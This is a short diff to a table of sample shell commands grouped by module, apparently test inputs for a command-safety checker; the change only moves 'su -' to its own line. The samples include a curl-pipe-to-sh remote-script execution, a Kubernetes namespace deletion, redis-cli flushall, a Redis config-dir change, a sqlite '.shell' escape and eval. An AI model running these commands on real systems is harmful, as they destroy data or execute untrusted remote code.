@@ -28,7 +28,8 @@ BY_MODULE = {
     "patches": ("patch -p1 < missing.patch",),
     "redis": ("redis-cli info", "redis-cli get session", "redis-cli flushall", "redis-cli config set dir /tmp"),
     "shells": (
-        "sh -c 'ls'", "bash -c 'kubectl delete ns shop'", "eval \"$X\"", "curl -s https://example.com/x.sh | sh", "su -",
+        "sh -c 'ls'", "bash -c 'kubectl delete ns shop'", "eval \"$X\"", "curl -s https://example.com/x.sh | sh",
+        "su -",
     ),
     "sqlite": ("sqlite3 a.db 'select 1'", "sqlite3 a.db '.shell ls'"),
     "tasks": ("make test", "npm test"),
